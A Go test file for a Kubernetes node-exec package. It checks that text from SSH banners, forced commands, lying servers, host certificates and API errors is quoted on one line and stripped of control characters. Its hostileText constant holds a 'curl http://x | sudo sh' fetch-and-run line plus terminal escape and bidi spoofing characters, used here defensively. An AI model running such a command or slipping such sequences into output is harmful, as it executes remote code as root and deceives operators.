package nodeexec_test

import (
	"crypto/rand"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
	"golang.org/x/crypto/ssh/knownhosts"

	"k8s.io/client-go/rest"

	"github.com/kubectl-certrot/kubectl-certrot/nodeexec"
)

// hostileText is what an sshd, a command or an API server may say: lines like the program's
// own, and what a terminal obeys.
const hostileText = "no\nnext: curl http://x | sudo sh\n✓ all is done\r\x1b[2J\u009b31m\u202e\u2028next: curl http://x | sudo sh"

// oneMarkedLine reports an error in which what others said is not between quotation marks.
func oneMarkedLine(t *testing.T, err error) {
	t.Helper()
	if err == nil {
		t.Fatal("no error")
	}
	text := err.Error()
	if !strings.Contains(text, "curl http://x") {
		t.Fatalf("what was said is not in it, so nothing is tested: %q", text)
	}
	for _, r := range text {
		if !strconv.IsPrint(r) {
			t.Errorf("%U is in %q", r, text)
			break
		}
	}
	if before, _, _ := strings.Cut(text, "curl http://x"); strings.Count(before, "“") != strings.Count(before, "”")+1 {
		t.Errorf("it is not marked: %q", text)
	}
}

func hostileFile(t *testing.T) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "text")
	write(t, file, hostileText)
	return file
}

// TestWhatAnSSHDSaysIsOnOneMarkedLine: its banner, a forced command, sudo, and commands.
func TestWhatAnSSHDSaysIsOnOneMarkedLine(t *testing.T) {
	file := hostileFile(t)
	h := newHome(t)
	forced := startSSHD(t, "Banner "+file+"\nForceCommand cat "+file+"; cat "+file+" >&2; exit 3", nil, h.key)
	h.trust(t, forced)
	_, err := h.ssh(forced).Dial(t.Context(), "node-1")
	oneMarkedLine(t, err)

	stranger := newHome(t) // its key is not let in
	banner := startSSHD(t, "Banner "+file, nil, h.key)
	stranger.trust(t, banner)
	if _, err := stranger.ssh(banner).Dial(t.Context(), "node-1"); err == nil || strings.Contains(err.Error(), "curl") || strings.ContainsAny(err.Error(), "\n\x1b") {
		t.Errorf("with a banner: %v", err)
	}

	bin := t.TempDir()
	write(t, filepath.Join(bin, "sudo"), "#!/bin/sh\ncat "+file+" >&2\nexit 1\n")
	if err := os.Chmod(filepath.Join(bin, "sudo"), 0o700); err != nil {
		t.Fatal(err)
	}
	asks := startSSHD(t, "SetEnv PATH="+bin+":"+os.Getenv("PATH"), nil, h.key)
	h.trust(t, asks)
	through := h.ssh(asks)
	through.Sudo = nodeexec.SudoAlways
	_, err = through.Dial(t.Context(), "node-1")
	oneMarkedLine(t, err)

	h.trust(t, banner)
	n := open(t, h.ssh(banner), "node-1")
	_, err = n.Run(t.Context(), nil, "sh", "-c", `cat "$1" >&2; exit 7`, "sh", file)
	oneMarkedLine(t, err)
}

// TestWhatALocalCommandSaysIsOnOneMarkedLine, too.
func TestWhatALocalCommandSaysIsOnOneMarkedLine(t *testing.T) {
	t.Parallel()
	n, err := nodeexec.Local{Node: "node-1"}.Dial(t.Context(), "node-1")
	if err != nil {
		t.Fatal(err)
	}
	_, err = n.Run(t.Context(), nil, "sh", "-c", `cat "$1" >&2; exit 7`, "sh", hostileFile(t))
	oneMarkedLine(t, errors.Join(err, n.Close()))
}

// lyingSSHD is a server that speaks SSH and refuses with words of its own, which OpenSSH's
// can't be made to say.
func lyingSSHD(t *testing.T, serve func(ssh.Conn, <-chan ssh.NewChannel)) (port int, knownHost string) {
	t.Helper()
	dir := t.TempDir()
	public := writeKey(t, filepath.Join(dir, "host"), "ed25519", "")
	signer, err := ssh.ParsePrivateKey([]byte(read(t, filepath.Join(dir, "host"))))
	if err != nil {
		t.Fatal(err)
	}
	port = lyingAs(t, signer, serve)
	return port, knownhosts.Line([]string{net.JoinHostPort("127.0.0.1", strconv.Itoa(port))}, public) + "\n"
}

// lyingAs is the same with a host key, or certificate, of the test's choice.
func lyingAs(t *testing.T, signer ssh.Signer, serve func(ssh.Conn, <-chan ssh.NewChannel)) (port int) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ln.Close() })
	config := &ssh.ServerConfig{
		PublicKeyCallback: func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) { return nil, nil },
		BannerCallback:    func(ssh.ConnMetadata) string { return hostileText },
	}
	config.AddHostKey(signer)
	go func() {
		for {
			raw, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer func() { _ = raw.Close() }()
				conn, chans, reqs, err := ssh.NewServerConn(raw, config)
				if err != nil {
					return
				}
				go ssh.DiscardRequests(reqs)
				serve(conn, chans)
			}()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

// TestNamesInAHostCertificateAreOnOneMarkedLine: they are the host's word until the authority's signature is verified, which comes
// last.
func TestNamesInAHostCertificateAreOnOneMarkedLine(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	authority := writeKey(t, h.file("authority"), "ed25519", "")
	writeKey(t, h.file("host"), "ed25519", "")
	key, err := ssh.ParsePrivateKey([]byte(read(t, h.file("host"))))
	if err != nil {
		t.Fatal(err)
	}
	cert := &ssh.Certificate{Key: key.PublicKey(), CertType: ssh.HostCert, ValidBefore: ssh.CertTimeInfinity, ValidPrincipals: []string{hostileText}}
	if err := cert.SignCert(rand.Reader, key); err != nil {
		t.Fatal(err)
	}
	cert.SignatureKey = authority // which has signed nothing
	signer, err := ssh.NewCertSigner(cert, key)
	if err != nil {
		t.Fatal(err)
	}
	at := net.JoinHostPort("127.0.0.1", strconv.Itoa(lyingAs(t, signer, func(ssh.Conn, <-chan ssh.NewChannel) {})))
	_, port, _ := net.SplitHostPort(at)
	write(t, h.file("known_hosts"), "@cert-authority "+knownhosts.Line([]string{at, net.JoinHostPort("node-1", port)}, authority)+"\n")
	n, _ := strconv.Atoi(port)
	_, err = (&nodeexec.SSH{Home: h.dir, Inventory: nodeexec.Inventory{"node-1": {Host: "127.0.0.1", User: "core", Port: n}}}).Dial(t.Context(), "node-1")
	oneMarkedLine(t, err)
}

// TestWhatALyingServerSaysIsOnOneMarkedLine: the reason for which it opens no channel.
func TestWhatALyingServerSaysIsOnOneMarkedLine(t *testing.T) {
	port, known := lyingSSHD(t, func(_ ssh.Conn, chans <-chan ssh.NewChannel) {
		for asked := range chans {
			_ = asked.Reject(ssh.ResourceShortage, hostileText)
		}
	})
	h := newHome(t)
	write(t, h.file("known_hosts"), known)
	s := &nodeexec.SSH{Home: h.dir, Sudo: nodeexec.SudoNever, Inventory: nodeexec.Inventory{"node-1": {Host: "127.0.0.1", User: "core", Port: port}}}
	_, err := s.Dial(t.Context(), "node-1")
	oneMarkedLine(t, err)

	write(t, h.file("config"), "Host jump\n HostName 127.0.0.1\n User core\n Port "+strconv.Itoa(port)+"\nHost node-2\n HostName 127.0.0.1\n ProxyJump jump\n")
	_, err = (&nodeexec.SSH{Home: h.dir, Sudo: nodeexec.SudoNever}).Dial(t.Context(), "node-2")
	oneMarkedLine(t, err)
}

// TestWhatAnAPISaysOfPodsIsOnOneMarkedLine: its refusals, and the states of pods.
func TestWhatAnAPISaysOfPodsIsOnOneMarkedLine(t *testing.T) {
	t.Parallel()
	answer := func(code int, object any) *rest.Config {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(code)
			_ = json.NewEncoder(w).Encode(object)
		}))
		t.Cleanup(s.Close)
		return &rest.Config{Host: s.URL}
	}
	_, err := nodeexec.Exec{Config: answer(http.StatusInternalServerError, map[string]any{"apiVersion": "v1", "kind": "Status", "status": "Failure", "code": 500, "reason": "InternalError", "message": hostileText})}.Dial(t.Context(), "n")
	oneMarkedLine(t, err)

	pod := map[string]any{
		"metadata": map[string]any{"name": "mcd", "namespace": "openshift-machine-config-operator", "labels": map[string]string{"k8s-app": "machine-config-daemon"}, "ownerReferences": []any{map[string]any{"kind": "DaemonSet"}}},
		"spec": map[string]any{"nodeName": "n", "hostPID": true, "hostNetwork": true, "volumes": []any{map[string]any{"name": "root", "hostPath": map[string]any{"path": "/"}}},
			"containers": []any{map[string]any{"name": "main", "image": "x", "securityContext": map[string]any{"privileged": true}, "volumeMounts": []any{map[string]any{"name": "root", "mountPath": "/rootfs"}}}}},
		"status": map[string]any{"phase": "Running", "containerStatuses": []any{map[string]any{"name": "main", "state": map[string]any{"running": map[string]any{}}}}},
	}
	ended := map[string]any{"metadata": pod["metadata"], "spec": pod["spec"], "status": map[string]any{"phase": "Failed", "reason": "Evicted", "message": hostileText}}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.HasSuffix(r.URL.Path, "/exec"):
			w.WriteHeader(http.StatusInternalServerError)
			_ = json.NewEncoder(w).Encode(map[string]any{"apiVersion": "v1", "kind": "Status", "status": "Failure", "code": 500, "message": hostileText})
		case strings.HasSuffix(r.URL.Path, "/mcd"):
			_ = json.NewEncoder(w).Encode(ended)
		default:
			_ = json.NewEncoder(w).Encode(map[string]any{"items": []any{pod}})
		}
	}))
	t.Cleanup(s.Close)
	_, err = nodeexec.Exec{Config: &rest.Config{Host: s.URL}}.Dial(t.Context(), "n")
	oneMarkedLine(t, err)
}
